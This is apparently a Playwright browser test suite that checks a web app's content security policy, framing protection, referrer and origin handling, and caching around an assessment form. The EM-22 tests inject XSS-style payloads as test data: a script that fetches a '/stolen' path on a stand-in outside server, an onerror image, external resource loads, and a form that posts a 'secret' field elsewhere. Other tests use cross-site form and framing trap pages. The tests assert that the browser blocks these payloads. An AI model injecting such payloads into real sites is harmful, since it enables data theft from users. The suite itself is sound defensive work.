import type { Page } from "playwright-core";
import { afterEach, expect, test } from "vitest";
import type { World } from "../functions/handlers/doubles/world.ts";
import { describeInBrowser } from "../support/browser.ts";
import { serve, servePage, type Served } from "./serve.ts";

const open: Served[] = [];
const kept = <Server extends Served>(server: Server): Server => {
  open.push(server);
  return server;
};
afterEach(async () => {
  for (const server of open.splice(0)) await server.stop();
});

const nothing = () => Promise.resolve({ body: "" });
const decisions = ({ history }: World) => history.filter(({ fact }) => fact.type === "request-answered").length;
const intoBody = (what: string) => (html: string) => html.replace("</main>", `${what}</main>`);

/** Fills the assessment as a person does. */
const fill = async (page: Page): Promise<void> => {
  await page.check("input[name=decision][value=denied]");
  for (const name of ["credible.trustworthySource", "credible.enoughInformation"])
    await page.check(`input[name="${name}"][value=no]`).catch(() => page.selectOption(`select[name="${name}"]`, "no"));
  await page.fill('[name="credibleReasons"]', "The source withdrew its report.");
  await page.fill('[name="reasons"]', "The source withdrew its report.");
};
const decide = async (page: Page): Promise<void> => {
  await page.click("button[value=decide]", { noWaitAfter: true });
  await page.locator("input[name=decision]").first().waitFor({ state: "detached" });
  await page.waitForLoadState();
};

describeInBrowser("what a browser enforces", (browser) => {
  test("EM-22: a script and an image that got into a page are not run and not loaded", async () => {
    const elsewhere = kept(await serve(nothing));
    const inline = `<script>document.title='OWNED';fetch('${elsewhere.url}/stolen')</script>`;
    const image = `<img src="${elsewhere.url}/pixel" onerror="document.title='OWNED'">`;
    const style = `<link rel=stylesheet href="${elsewhere.url}/s.css"><p style="background:url(${elsewhere.url}/b)">x</p>`;
    const served = kept(
      await servePage(intoBody(`${inline}${image}${style}<script src="${elsewhere.url}/x.js"></script>`)),
    );
    const page = await browser().newPage();
    await page.goto(served.link, { waitUntil: "networkidle" });
    expect(await page.content()).toContain("OWNED");
    expect(await page.title()).not.toBe("OWNED");
    expect(elsewhere.reached).toEqual([]);
    await page.close();
  });

  test("EM-20: no other site can frame a page and have it clicked", async () => {
    const served = kept(await servePage());
    const trap = kept(await serve(() => Promise.resolve({ body: `<iframe src="${served.link}"></iframe>` })));
    const page = await browser().newPage();
    await page.goto(trap.url, { waitUntil: "networkidle" });
    const frame = page.frames().find((one) => one !== page.mainFrame());
    expect(await frame?.locator("form").count()).toBe(0);
    await page.close();
  });

  test("EM-16, EM-19: the form is sent without a Referer and with `Origin: null`, and is taken", async () => {
    const served = kept(await servePage());
    const page = await browser().newPage();
    await page.goto(served.link);
    await fill(page);
    await decide(page);
    const sent = served.reached.find(({ method }) => method === "POST");
    expect(sent?.headers).toMatchObject({ origin: "null", "sec-fetch-site": "same-origin" });
    expect(served.reached.map(({ headers }) => headers.referer)).toEqual(served.reached.map(() => undefined));
    expect(decisions(served.world)).toBe(1);
    await page.close();
  });

  test("EM-16: a way out of the page does not carry the link along", async () => {
    const elsewhere = kept(await serve(nothing));
    const served = kept(await servePage(intoBody(`<a id=out href="${elsewhere.url}/out">out</a>`)));
    const page = await browser().newPage();
    await page.goto(served.link);
    await page.click("#out");
    expect(elsewhere.reached.map(({ path, headers }) => [path, headers.referer])).toEqual([["/out", undefined]]);
    await page.close();
  });

  test("EM-22: a form that got into a page cannot send to another site", async () => {
    const elsewhere = kept(await serve(nothing));
    const form = `<form action="${elsewhere.url}/take" method=post><input name=typed value=secret><button id=take>x</button></form>`;
    const served = kept(await servePage(intoBody(form)));
    const page = await browser().newPage();
    await page.goto(served.link);
    await page.locator("#take").dispatchEvent("click");
    await page.waitForTimeout(200);
    expect(elsewhere.reached).toEqual([]);
    await page.close();
  });

  test("EM-19: another site that knows the link cannot send its form", async () => {
    const served = kept(await servePage());
    const fields = ["decision=denied", "reasons=x", "_action=decide"].map((pair) => pair.split("="));
    const inputs = fields.map(([name, value]) => `<input name="${String(name)}" value="${String(value)}">`).join("");
    const form = `<form action="${served.link}" method=post>${inputs}<button id=go>x</button></form>`;
    const trap = kept(await serve(() => Promise.resolve({ body: form })));
    const page = await browser().newPage();
    await page.goto(trap.url);
    const [answer] = await Promise.all([page.waitForResponse(served.link), page.click("#go")]);
    expect(served.reached.at(-1)?.headers["sec-fetch-site"]).toMatch(/cross-site|same-site/);
    expect([answer.status(), decisions(served.world)]).toEqual([403, 0]);
    await page.close();
  });

  test("EM-33: reload and back after a decision send nothing again, and show no page from before", async () => {
    const served = kept(await servePage());
    const page = await browser().newPage();
    await page.goto(served.link);
    await fill(page);
    await decide(page);
    await page.reload();
    expect(await page.locator("input[name=decision]").count()).toBe(0);
    const before = served.reached.length;
    await page.goto("about:blank");
    await page.goBack();
    expect(served.reached.length, "the page is asked for again, not taken from a cache").toBe(before + 1);
    expect(await page.locator("input[name=decision]").count()).toBe(0);
    expect(served.reached.filter(({ method }) => method === "POST")).toHaveLength(1);
    await page.close();
  });

  test("EM-02: a page that is opened with scripts and left alone sends nothing", async () => {
    const served = kept(await servePage());
    const page = await browser().newPage();
    await page.goto(served.link, { waitUntil: "networkidle" });
    await page.waitForTimeout(300);
    expect(served.reached.map(({ method }) => method)).toEqual(["GET"]);
    await page.close();
  });
});
